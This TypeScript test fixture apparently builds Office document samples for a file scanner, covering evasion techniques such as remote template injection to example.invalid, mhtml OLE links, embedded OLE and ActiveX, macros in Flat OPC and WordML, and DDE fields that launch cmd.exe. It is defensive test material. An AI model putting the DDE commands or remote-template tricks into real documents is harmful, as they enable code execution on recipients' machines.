// Evasion by office packages (OOXML), more: objects, what is fetched from elsewhere, fields, passwords, XML without a package.
import { withExternal } from '../../samples/make/files.ts'
import { buildOoxml, DOCX_TYPE, type MemberPlan, relationships } from '../support/zip-builder.ts'
import { because, documentBytes, family, macro, type Plan, text } from './build.ts'
import { active, attached, sealed, sheetType, VBA } from './ooxml.ts'

const rels = (type: string, target: string, external = true): MemberPlan => ({
  name: 'word/_rels/document.xml.rels',
  bytes: relationships({ type, target, external }),
})

const ooxml: Plan[] = [
  attached(
    'o-altchunk-rtf',
    'an altChunk of RTF with an object',
    'medium',
    'a.docx',
    buildOoxml(DOCX_TYPE, [
      { name: 'word/afchunk.rtf', bytes: '{\\rtf1 MAU THU {\\object\\objemb{\\*\\objdata 01050000}}}' },
      rels('aFChunk', 'afchunk.rtf', false),
    ]),
    active,
  ),
  attached(
    'o-activex',
    'an ActiveX control',
    'medium',
    'a.docx',
    buildOoxml(DOCX_TYPE, [
      { name: 'word/activeX/activeX1.bin', bytes: 'x' },
      rels('control', 'activeX/activeX1.xml', false),
    ]),
    [...active, ...macro],
  ),
  attached(
    'o-ole',
    'an OLE object',
    'high',
    'a.docx',
    buildOoxml(DOCX_TYPE, [
      { name: 'word/embeddings/oleObject1.bin', bytes: 'x' },
      rels('oleObject', 'embeddings/oleObject1.bin', false),
    ]),
    active,
  ),
  attached(
    'o-template',
    'a remote template',
    'high',
    'a.docx',
    withExternal('bao-cao-58.docx', 'attachedTemplate', 'https://example.invalid/a.dotm'),
    active,
  ),
  attached(
    'o-template-unc',
    'a remote template by UNC',
    'high',
    'a.docx',
    buildOoxml(DOCX_TYPE, [rels('attachedTemplate', '\\\\example.invalid\\a.dotm')]),
    active,
  ),
  attached(
    'o-mhtml-object',
    'a remote OLE object by mhtml:',
    'high',
    'a.docx',
    buildOoxml(DOCX_TYPE, [rels('oleObject', 'mhtml:https://example.invalid/a!x')]),
    active,
  ),
  attached(
    'o-frame',
    'a frame from elsewhere',
    'medium',
    'a.docx',
    buildOoxml(DOCX_TYPE, [rels('frame', 'https://example.invalid/')]),
    active,
  ),
  attached(
    'o-sub-document',
    'a sub-document from elsewhere',
    'medium',
    'a.docx',
    buildOoxml(DOCX_TYPE, [rels('subDocument', 'https://example.invalid/a.docx')]),
    active,
  ),
  attached(
    'o-dde',
    'a DDE field',
    'medium',
    'a.docx',
    buildOoxml(DOCX_TYPE, [
      {
        name: 'word/document.xml',
        bytes:
          '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k mau.bat&quot;"/></w:p></w:body></w:document>',
      },
    ]),
    active,
  ),
  attached(
    'o-dde-split',
    'a DDE field cut into runs',
    'medium',
    'a.docx',
    buildOoxml(DOCX_TYPE, [
      {
        name: 'word/document.xml',
        bytes:
          '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd /k mau.bat</w:instrText></w:r></w:p></w:body></w:document>',
      },
    ]),
    active,
  ),
  attached(
    'o-xlsx-dde',
    'a DDE link of a workbook',
    'medium',
    'a.xlsx',
    buildOoxml(sheetType('sheet'), [
      {
        name: 'xl/externalLinks/externalLink1.xml',
        bytes:
          '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/k mau.bat"/></externalLink>',
      },
    ]),
    active,
  ),
  attached(
    'o-encrypted',
    'a docx with a password',
    'high',
    'a.docx',
    documentBytes('to-trinh-77-mat-khau.docx'),
    sealed,
  ),
  attached(
    'o-encrypted-xlsx',
    'an xlsx with a password',
    'high',
    'a.xlsx',
    documentBytes('bang-tong-hop-thiet-bi-mat-khau.xlsx'),
    sealed,
  ),
  attached(
    'o-flat-opc',
    'Flat OPC with a VBA part',
    'high',
    'a.xml',
    text(
      `<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/vbaProject.bin" pkg:contentType="application/vnd.ms-office.vbaProject"><pkg:binaryData>${Buffer.from(VBA.bytes!).toString('base64')}</pkg:binaryData></pkg:part></pkg:package>`,
    ),
    macro,
  ),
  attached(
    'o-word-2003',
    'WordML 2003 with a macro',
    'high',
    'a.doc',
    text(
      '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="yes"><w:docSuppData><w:binData w:name="editdata.mso">QWN0aXZlTWltZQAAAfAEAAAA</w:binData></w:docSuppData></w:wordDocument>',
    ),
    macro,
  ),
  attached(
    'o-rels-utf16',
    'relationships in UTF-16',
    'low',
    'a.docx',
    buildOoxml(DOCX_TYPE, [
      {
        name: 'word/_rels/document.xml.rels',
        bytes: Buffer.from(
          `\ufeff${relationships({ type: 'attachedTemplate', target: 'https://example.invalid/a.dotm', external: true })}`,
          'utf16le',
        ),
      },
    ]),
    [...active, ...because('damaged')],
  ),
  attached(
    'o-custom-ui',
    'a custom ribbon that calls a macro of elsewhere',
    'low',
    'a.docx',
    buildOoxml(DOCX_TYPE, [VBA, { name: 'customUI/customUI.xml', bytes: '<customUI onLoad="x"/>' }]),
    macro,
  ),
]

export const ooxmlLinkCases = family('ooxml', ooxml)
